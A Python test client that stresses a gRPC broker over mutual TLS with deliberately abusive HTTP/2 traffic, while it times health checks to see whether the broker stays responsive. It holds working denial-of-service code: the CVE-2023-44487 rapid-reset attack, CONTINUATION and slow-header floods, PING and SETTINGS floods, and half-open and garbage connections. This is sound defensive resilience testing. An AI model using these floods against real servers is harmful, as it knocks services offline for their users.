"""A client that breaks HTTP/2 on purpose, frame by frame, over mutual TLS.

Each attack is a function that takes a way to connect and returns when it is over. Beside them a
health check must keep answering within a second: attack() runs one of them and measures that.
Sources: RFC 9113 (frames), RFC 7541 (headers without compression), CVE-2023-44487 (rapid reset).
"""
import socket
import ssl
import struct
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field, neither indexed nor compressed; lengths below 127 only."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path):
    return b"".join(
        literal(name, value)
        for name, value in [
            (b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", b"localhost"),
            (b"te", b"trailers"), (b"content-type", b"application/grpc"),
        ]
    )


HEALTH = b"/grpc.health.v1.Health/Check"


class Peer:
    """Where the broker is, and the certificate to show."""

    def __init__(self, server, ca, cert, key):
        self.server, self.ca, self.cert, self.key = server, ca, cert, key
        self.host, _, port = server.rpartition(":")
        self.port = int(port)

    def tcp(self):
        return socket.create_connection((self.host, self.port), timeout=10)

    def tls(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(self.ca)
        context.load_cert_chain(self.cert, self.key)
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(self.tcp(), server_hostname="localhost")

    def http2(self):
        connection = self.tls()
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        return connection

    def channel(self):
        parts = []
        for path in (self.ca, self.key, self.cert):
            with open(path, "rb") as file:
                parts.append(file.read())
        credentials = grpc.ssl_channel_credentials(*parts)
        return grpc.secure_channel(self.server, credentials)


def send_all(connection, data):
    """Sends until done or until the other side has had enough, which is a good answer."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


N_RESETS = 10000


def reset_streams(connection, block):
    """Opens streams and cancels each in the same breath."""
    cancel = struct.pack(">I", 8)
    for first in range(1, 2 * N_RESETS, 400):
        burst = b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 400, 2)
        )
        if not send_all(connection, burst):
            break


def rapid_reset(peer):
    connection = peer.http2()
    reset_streams(connection, request_headers(HEALTH))
    connection.close()


def slow_headers(peer):
    """Header blocks that never end, one byte at a time, on many connections."""
    connections = [peer.http2() for _ in range(20)]
    for connection in connections:
        send_all(connection, frame(HEADERS, 0, 1, request_headers(HEALTH)[:10]))
    for byte in request_headers(HEALTH)[10:40]:
        for connection in connections:
            send_all(connection, frame(CONTINUATION, 0, 1, bytes([byte])))
    for connection in connections:
        connection.close()


def huge_headers(peer):
    connection = peer.http2()
    send_all(connection, frame(HEADERS, 0, 1, request_headers(HEALTH)))
    block = b"".join(literal(b"x-%05d" % n, b"y" * 100) for n in range(140))
    for _ in range(1000):
        if not send_all(connection, frame(CONTINUATION, 0, 1, block)):
            break
    connection.close()


def ping_flood(peer):
    connection = peer.http2()
    burst = frame(PING, 0, 0, b"12345678") * 500
    for _ in range(100):
        if not send_all(connection, burst):
            break
    connection.close()


def settings_flood(peer):
    connection = peer.http2()
    burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500
    for _ in range(100):
        if not send_all(connection, burst):
            break
    connection.close()


def half_open(peer):
    """Connections that say nothing, before TLS and after it."""
    connections = [peer.tcp() for _ in range(100)] + [peer.tls() for _ in range(20)]
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        for connection in connections:
            connection.getpeername()
        threading.Event().wait(0.1)
    for connection in connections:
        connection.close()


def garbage(peer):
    """Bytes that are neither TLS nor HTTP/2."""
    for _ in range(20):
        connection = peer.tcp()
        send_all(connection, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        connection.close()
        connection = peer.tls()
        send_all(connection, b"\x00" * 4096)
        connection.close()


def streams_without_message(peer):
    """Calls that begin and send nothing more."""
    connection = peer.http2()
    block = request_headers(HEALTH)
    send_all(connection, b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 2001, 2)))
    time_left = time.monotonic() + 1
    connection.settimeout(0.2)
    while time.monotonic() < time_left:
        try:
            if not connection.recv(65536):
                break
        except OSError:
            pass
    connection.close()


ATTACKS = [rapid_reset, slow_headers, huge_headers, ping_flood, settings_flood, half_open, garbage,
           streams_without_message]


class Pulse(threading.Thread):
    """Asks for the broker's health all the time and keeps the slowest answer."""

    def __init__(self, peer):
        super().__init__(daemon=True)
        self.check = peer.channel().unary_unary(HEALTH.decode())
        self.is_over = threading.Event()
        self.slowest_s, self.n_answers, self.failure = 0.0, 0, None

    def run(self):
        while not self.is_over.is_set():
            began = time.monotonic()
            try:
                answer = self.check(b"", timeout=5)
                if answer != b"\x08\x01":
                    self.failure = f"health says {answer!r}"
            except grpc.RpcError as error:
                self.failure = f"health check failed: {error.code().name} {error.details()}"
            self.slowest_s = max(self.slowest_s, time.monotonic() - began)
            self.n_answers += 1
            self.is_over.wait(0.02)


def attack(peer, function):
    """Runs one attack; returns (answers, slowest in seconds, failure or None) of the health checks beside it."""
    pulse = Pulse(peer)
    pulse.check(b"", timeout=5)
    pulse.start()
    function(peer)
    pulse.is_over.set()
    pulse.join(10)
    return pulse.n_answers, pulse.slowest_s, pulse.failure
